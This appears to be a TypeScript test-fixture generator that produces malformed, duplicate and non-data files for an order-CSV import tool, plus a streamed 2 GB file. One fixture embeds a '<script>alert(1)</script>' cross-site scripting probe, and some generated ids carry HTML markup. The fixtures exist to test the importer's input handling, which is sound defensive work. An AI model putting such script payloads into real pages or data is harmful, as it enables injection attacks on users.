  add('date', 'year-0001.csv', 'year 1 and year 9999', dated('0001-01-01', '9999-12-31', '2024-01-05'), ok({ rowsRead: 3, rowsLoaded: 3, notices: ['ingest.far-dates'] }));
  add('date', 'all-dates-bad.csv', 'no date can be read', dated('soon', 'later', 'never'), fail('no-dates', 'mapping', 'nothing-loaded'));
  add('date', 'date-with-text.csv', 'dates with a weekday in front', dated('Fri 2024-01-05', 'Sat 2024-01-06', '2024-01-07'), fail('mapping'));

  // --- Duplicates and returns --------------------------------------------------------------
  const withOrders = 'order_id,customer_id,order_date,amount';
  add('duplicate', 'duplicate-lines.csv', 'the same order line three times', lines(withOrders, '1,A,2024-01-05,10', '1,A,2024-01-05,10', '1,A,2024-01-05,10', '2,B,2024-01-06,5'), ok({ rowsRead: 4, rowsLoaded: 4, customers: 2 }));
  add('duplicate', 'order-two-customers.csv', 'one order id under two customers', lines(withOrders, '1,A,2024-01-05,10', '1,B,2024-01-05,10', '2,B,2024-01-06,5'), ok({ rowsRead: 3 }));
  add('duplicate', 'order-two-dates.csv', 'one order id on two dates', lines(withOrders, '1,A,2024-01-05,10', '1,A,2024-01-09,10', '2,B,2024-01-06,5'), ok({ rowsRead: 3 }));
  add('duplicate', 'cancellations.csv', 'Online Retail style cancellations (C-prefixed order ids)', lines('InvoiceNo,CustomerID,InvoiceDate,Quantity,UnitPrice', '536365,17850,2010-12-01 08:26,6,2.55', 'C536379,17850,2010-12-01 09:41,-1,2.55', '536366,17851,2010-12-01 08:28,2,1.85'), ok({ rowsRead: 3, rowsLoaded: 3 }));
  add('duplicate', 'same-id-case.csv', 'ids that differ only in case or spaces', lines(HEADER, 'abc,2024-01-05,1', 'ABC,2024-01-06,2', ' abc ,2024-01-07,3'), ok({ rowsRead: 3, rowsLoaded: 3 }));

  // --- Containers and files that are not order data ----------------------------------------
  const goodCsv = utf8(lines(HEADER, ...GOOD));
  const gz = gzipStored(goodCsv);
  add('container', 'good.csv.gz', 'a valid gzip (control)', gz, ok({ rowsLoaded: 3, totalAmount: 60 }));
  add('container', 'truncated.csv.gz', 'a gzip cut off half-way', gz.subarray(0, Math.floor(gz.length / 2)), fail('unreadable'));
  add('container', 'gzip-header-only.csv.gz', 'the gzip magic bytes and nothing else', Uint8Array.of(0x1f, 0x8b, 8, 0), fail('unreadable'));
  add('container', 'gzip-bad-crc.csv.gz', 'a gzip whose checksum is wrong', (() => { const b = gz.slice(); b[b.length - 8]! ^= 0xff; return b; })(), fail('unreadable'));
  add('container', 'gzip-in-gzip.csv.gz', 'gzip inside gzip', gzipStored(gz), fail('not-data', 'unreadable'));
  add('container', 'gzip-of-empty.csv.gz', 'a gzip of an empty file', gzipStored(new Uint8Array(0)), fail('empty', 'unreadable'));
  add('container', 'gzip-of-png.csv.gz', 'a gzip of an image', gzipStored(Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...noise(64, 7))), fail('not-data'));
  add('container', 'orders.zip', 'a zip archive holding the CSV', zipOne('orders.csv', goodCsv), fail('not-data'));
  add('container', 'workbook.xlsx', 'an Excel workbook (a zip)', zipOne('[Content_Types].xml', utf8('<?xml version="1.0"?><Types/>')), fail('not-data'));
  add('container', 'image.png', 'a PNG image', Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...noise(200, 1)), fail('not-data'));
  add('container', 'photo.csv', 'a JPEG named .csv', Uint8Array.of(0xff, 0xd8, 0xff, 0xe0, ...noise(200, 2)), fail('not-data'));
  add('container', 'report.pdf', 'a PDF', utf8('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n'), fail('not-data'));
  add('container', 'random.bin', 'random bytes', noise(4096, 3), fail('not-data', 'unreadable', 'mapping'));
  add('container', 'page.html', 'a web page saved as .csv', utf8('<!doctype html><html><head><title>Orders</title></head><body><table><tr><td>A</td><td>2024-01-05</td><td>1</td></tr></table><script>alert(1)</script></body></html>\n'), fail('mapping', 'header-only', 'unreadable'));
  add('container', 'broken.json', 'JSON cut off mid-record', '[{"customer_id":"A","order_date":"2024-01-05","amount":1},{"customer_id":"B","order_', fail('unreadable'));
  add('container', 'json-scalar.json', 'a JSON number', '42', fail('unreadable'));
  add('container', 'json-nested.json', 'records whose values are objects and arrays', JSON.stringify([{ customer_id: { id: 'A' }, order_date: ['2024-01-05'], amount: { value: 1 } }, { customer_id: 'B', order_date: '2024-01-06', amount: 2 }]), ok({ rowsRead: 2, rowsLoaded: 1, reasons: ['unparseable_date'] }));
  add('container', 'bad.parquet', 'the Parquet magic and garbage', concat(utf8('PAR1'), noise(100, 4), utf8('PAR1')), fail('unreadable'));
  add('container', 'bad.arrow', 'the Arrow file magic and garbage', concat(utf8('ARROW1\0\0'), noise(100, 5)), fail('unreadable'));
  add('container', 'sqlite.db', 'an SQLite database', concat(utf8('SQLite format 3\0'), noise(200, 6)), fail('not-data'));
  add('container', 'elf.csv', 'an executable named .csv', concat(Uint8Array.of(0x7f, 0x45, 0x4c, 0x46), noise(200, 8)), fail('not-data'));

  return files;
}

/** The families in the order the report lists them. */
export const FAMILIES = ['encoding', 'quoting', 'delimiter', 'header', 'shape', 'long', 'injection', 'number', 'date', 'duplicate', 'container'] as const;

/**
 * Lines of a large order file, streamed (never held whole): `customers` customers, ids with
 * quotes, commas and markup mixed in, amounts and dates that vary. Used for the 2 GB file.
 */
export function* largeOrderLines(approxBytes: number): Generator<string> {
  yield 'order_id,customer_id,order_date,amount\n';
  let bytes = 0;
  let chunk = '';
  for (let i = 0; bytes < approxBytes; i++) {
    const c = i % 997;
    const id = c % 50 === 0 ? `"<b>C${c}</b>, ""q"""` : `C${c}`;
    const d = `2023-${String((i % 12) + 1).padStart(2, '0')}-${String((i % 28) + 1).padStart(2, '0')}`;
    const line = `${i},${id},${d},${(i % 500) / 4 + 1}\n`;
    chunk += line;
    if (chunk.length >= 1 << 20) {
      bytes += chunk.length;
      yield chunk;
      chunk = '';
    }
  }
  if (chunk) yield chunk;
}
